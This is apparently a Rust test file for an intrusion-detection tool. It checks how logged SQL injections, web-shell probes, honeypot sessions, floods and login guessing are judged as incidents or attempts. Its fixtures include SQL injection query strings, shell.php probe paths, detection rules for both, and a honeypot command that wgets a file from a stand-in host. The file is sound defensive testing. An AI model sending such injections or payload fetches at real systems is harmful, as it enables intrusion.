//! Requests that exploited, and the answers that do or do not make an incident of them; honeypots; the aim of attempts.

#[allow(dead_code, reason = "each test file uses its own part of the made-up world")]
mod world;

use vigie_detect::options::{Options, Organisation};
use vigie_facts::case::{Aim, AimReason, Case, Effect, IncidentKind, Weakness};

use world::{FAILURES_OF_ONE_SOURCE, Happening, What, at, case_of, failures_of_one_source, ssh, web};

const RULES: &[(&str, &str)] = &[
    (
        "rules/web/sql-union-select/rule.yml",
        "title: SQL UNION SELECT
tags: [vigie.form.sql-injection]
logsource: { category: webserver }
detection:
    selection:
        url.query|contains|all: ['union', 'select']
    condition: selection
",
    ),
    (
        "rules/web/shell-path/rule.yml",
        "title: Path of a web shell
tags: [vigie.form.web-shell]
logsource: { category: webserver }
detection:
    selection:
        url.path|endswith: '/shell.php'
    condition: selection
",
    ),
    (FAILURES_OF_ONE_SOURCE, failures_of_one_source!("3")),
];

const ATTACKER: &str = "203.0.113.5";

fn visitors(path: &str, status: u16, bytes: u64) -> Vec<Happening> {
    (0..20).map(|n| web(n * 60, &format!("192.0.2.{}", n % 7 + 1), path, status, bytes + n as u64 % 3)).collect()
}

fn kinds(case: &Case) -> Vec<IncidentKind> {
    case.incidents.iter().map(|incident| incident.kind).collect()
}

/// Injections into ten paths, all answered alike, then one more answered as given.
fn injections(usual: (u16, u64), last: (u16, u64)) -> Vec<Happening> {
    let mut happenings: Vec<Happening> =
        (0..10).map(|n| web(2_000 + n, ATTACKER, &format!("/p{n}?id=1+union+select+1"), usual.0, usual.1)).collect();
    happenings.push(web(2_100, ATTACKER, "/members?id=1+union+select+1", last.0, last.1));
    happenings
}

#[test]
fn an_answer_is_an_incident_only_when_it_differs_from_what_is_usual() {
    for (usual, last, expected) in [
        ((404, 200), (200, 9_000), true),
        ((403, 200), (200, 9_000), true),
        ((404, 200), (404, 200), false),
        ((404, 200), (500, 200), false),
        ((404, 200), (302, 0), false),
        // A single page application answers everything with its one page.
        ((200, 4_321), (200, 4_321), false),
        ((200, 4_321), (200, 9_000), false),
        // An empty answer tells nothing.
        ((404, 200), (200, 0), false),
    ] {
        let case = case_of(injections(usual, last), RULES, &Options::default());
        let expected: &[IncidentKind] = if expected { &[IncidentKind::ExploitAnsweredDifferently] } else { &[] };
        assert_eq!(kinds(&case), expected, "{usual:?} then {last:?}");
    }
}

#[test]
fn a_page_that_answers_everybody_makes_no_incident_unless_far_more_is_sent() {
    for (bytes, expected) in [(5_000, 0), (9_000, 0), (400_000, 1)] {
        let mut happenings = visitors("/members", 200, 5_000);
        happenings.extend(injections((404, 200), (200, bytes)));
        let case = case_of(happenings, RULES, &Options::default());
        assert_eq!(case.incidents.len(), expected, "{bytes}");
        for incident in &case.incidents {
            assert_eq!(incident.effect, Effect::MayHaveHad);
            assert!(incident.weakened_by.contains(&Weakness::PageVaries));
            assert!(incident.evidence.iter().any(|evidence| &*evidence.part == "usual-answer"));
        }
    }
}

#[test]
fn a_web_shell_that_answers_where_others_do_not_is_an_incident() {
    let mut happenings: Vec<Happening> =
        (0..8).map(|n| web(n, ATTACKER, &format!("/d{n}/shell.php"), 404, 200)).collect();
    happenings.push(web(20, ATTACKER, "/uploads/shell.php", 200, 77));
    let case = case_of(happenings.clone(), RULES, &Options::default());
    assert_eq!(kinds(&case), [IncidentKind::WebShellAnswered]);
    assert_eq!(case.incidents[0].evidence.iter().filter(|e| &*e.part == "answer").count(), 1);
    let few = happenings.split_off(6);
    assert_eq!(kinds(&case_of(few, RULES, &Options::default())), [], "too few comparisons to say what is usual");
}

#[test]
fn a_honeypot_visit_is_one_incident_by_design() {
    let visit = |start: i64| {
        vec![
            at(start, ATTACKER, What::Honeypot("root".into())),
            at(start + 5, ATTACKER, What::HoneypotCommand("uname -a".into())),
            at(start + 900, ATTACKER, What::HoneypotCommand("wget http://198.51.100.1/x".into())),
        ]
    };
    let case = case_of([visit(0), visit(9_000)].concat(), RULES, &Options::default());
    assert_eq!(kinds(&case), [IncidentKind::HoneypotEntered, IncidentKind::HoneypotEntered]);
    assert_eq!(case.incidents[0].weakened_by, [Weakness::SensorByDesign]);
    assert_eq!(case.incidents[0].evidence.len(), 3);
}

fn guesses(names: &[&str]) -> Vec<Happening> {
    names.iter().enumerate().map(|(n, name)| ssh(5_000 + n as i64, ATTACKER, name, false)).collect()
}

fn unknown(names: &[&str]) -> Vec<Happening> {
    let what = |name: &str| What::SshUnknown(name.to_owned());
    names.iter().enumerate().map(|(n, name)| at(5_000 + n as i64, ATTACKER, what(name))).collect()
}

#[test]
fn aim_is_targeted_only_by_what_is_not_public_and_belongs_here() {
    let organisation = Organisation { people: vec!["Delacroix".into()], ..Organisation::default() };
    let options = Options { organisation, ..Options::default() };
    let many: Vec<String> = (0..40).map(|n| format!("zq{n}x")).collect();
    let mut dictionary: Vec<&str> = many.iter().map(String::as_str).collect();
    for (happenings, aim) in [
        (unknown(&["root", "admin", "test", "oracle"]), Aim::Opportunistic),
        (guesses(&["root", "admin", "root"]), Aim::Opportunistic),
        (guesses(&["p.treasurer", "root", "admin"]), Aim::Targeted),
        (unknown(&["j.delacroix", "root", "admin"]), Aim::Targeted),
        (unknown(&["qzxv", "wvutz", "admin"]), Aim::Unclear),
        (
            {
                let mut run = unknown(&dictionary);
                dictionary.clear();
                run.extend(guesses(&["p.treasurer"]));
                run
            },
            Aim::Unclear,
        ),
    ] {
        let case = case_of(happenings.clone(), RULES, &options);
        assert_eq!(case.attempts.len(), 1, "{happenings:?}");
        assert_eq!(case.attempts[0].aim, aim, "{happenings:?}");
    }
}

#[test]
fn a_path_that_answers_strangers_is_a_reason_and_a_path_that_does_not_is_none() {
    for (path, visited, aim) in [
        ("/members/export", true, Aim::Targeted),
        ("/members/export", false, Aim::Unclear),
        ("/", true, Aim::Opportunistic),
    ] {
        let mut happenings = if visited { visitors(path, 200, 500) } else { Vec::new() };
        happenings.push(web(5_000, ATTACKER, &format!("{path}?id=1+union+select+1"), 403, 100));
        let case = case_of(happenings, RULES, &Options::default());
        assert_eq!(case.attempts[0].aim, aim, "{path} {visited}");
        if aim == Aim::Targeted {
            assert!(matches!(case.attempts[0].aim_reasons[..], [AimReason::ExistingPath(_)]));
        }
    }
}

/// A flood from one source in the hour from 6:00; other hours have a hundred and fifty requests of visitors each.
fn flood(status: u16) -> Vec<Happening> {
    let mut happenings = Vec::new();
    for n in 0..24 * 150 {
        let source = format!("192.0.2.{}", n % 200 + 1);
        happenings.push(web(n * 24, &source, "/", 200, 500));
    }
    for n in 0..700 {
        happenings.push(web(6 * 3_600 + n, ATTACKER, "/search", status, 100));
    }
    happenings
}

const FLOOD_RULE: (&str, &str) = (
    "rules/web/flood/rule.yml",
    "title: Request
name: any-request
logsource: { category: webserver }
detection:
    selection: { url.path|startswith: '/' }
    condition: selection
---
title: Flood
tags: [vigie.form.denial-of-service]
correlation:
    type: event_count
    rules: [any-request]
    group-by: [source.ip]
    timespan: 1m
    condition: { gte: 50 }
",
);

#[test]
fn a_wave_of_server_errors_in_a_flood_is_an_incident_and_a_flood_that_is_served_is_none() {
    for (status, expected) in [(503, 1), (200, 0)] {
        let case = case_of(flood(status), &[FLOOD_RULE], &Options::default());
        assert_eq!(case.incidents.len(), expected, "{status}");
        for incident in &case.incidents {
            assert_eq!((incident.kind, incident.effect), (IncidentKind::StoppedAnswering, Effect::Had));
            assert!(incident.evidence.iter().all(|evidence| &*evidence.part == "answer"));
            assert_eq!(incident.attempts.len(), 1);
        }
        assert_eq!(case.detections.len(), 700, "the whole flood and nobody else");
        assert_eq!(case.ordinary.sources, 200);
    }
}

#[test]
fn silence_after_a_flood_is_an_incident_that_a_gap_in_the_log_would_weaken() {
    let mut happenings = flood(200);
    happenings.retain(|happening| !(7 * 3_600..9 * 3_600).contains(&happening.seconds));
    let case = case_of(happenings, &[FLOOD_RULE], &Options::default());
    assert_eq!(kinds(&case), [IncidentKind::StoppedAnswering]);
    assert_eq!(case.incidents[0].effect, Effect::MayHaveHad);
    assert!(case.incidents[0].weakened_by.contains(&Weakness::LogGap));
}

#[test]
fn a_server_that_is_always_in_trouble_makes_no_incident() {
    let mut happenings = flood(503);
    happenings.extend((0..24 * 60).map(|n| web(n * 60, "192.0.2.1", "/broken", 500, 10)));
    let case = case_of(happenings, &[FLOOD_RULE], &Options::default());
    assert!(case.incidents.is_empty());
}

const LOGIN_RULE: (&str, &str) = (
    "rules/web/login-guessing/rule.yml",
    "title: Login form sent
name: login-form-sent
logsource: { category: webserver }
detection:
    selection: { http.request.method: POST, url.path: '/login' }
    condition: selection
---
title: Many login forms of one source
tags: [vigie.form.password-guessing]
correlation:
    type: event_count
    rules: [login-form-sent]
    group-by: [source.ip]
    timespan: 10m
    condition: { gte: 5 }
",
);

#[test]
fn a_login_page_that_sends_on_after_many_refusals_may_have_let_somebody_in() {
    for (refusals, usual, last, expected) in [
        (30, 200, 302, 1),
        (30, 403, 303, 1),
        (30, 302, 302, 0),
        (30, 200, 200, 0),
        (30, 200, 503, 0),
        (3, 200, 302, 0),
    ] {
        let post = |seconds: i64, status: u16| at(seconds, ATTACKER, What::Post("/login".into(), status));
        let mut happenings: Vec<Happening> = (0..refusals).map(|n| post(n * 5, usual)).collect();
        happenings.push(post(400, last));
        let case = case_of(happenings, &[LOGIN_RULE], &Options::default());
        assert_eq!(case.incidents.len(), expected, "{refusals} times {usual}, then {last}");
        for incident in &case.incidents {
            assert_eq!((incident.kind, incident.effect), (IncidentKind::SignInAfterFailures, Effect::MayHaveHad));
        }
    }
}

#[test]
fn a_name_that_a_honeypot_lets_in_does_not_exist_for_that() {
    let mut happenings = unknown(&["qzxv", "root", "admin"]);
    happenings.push(at(0, "203.0.113.200", What::Honeypot("qzxv".into())));
    let case = case_of(happenings, RULES, &Options::default());
    assert_eq!(case.attempts[0].aim, Aim::Unclear);
    assert!(case.accounts.iter().all(|account| account.exists != Some(true)));
}
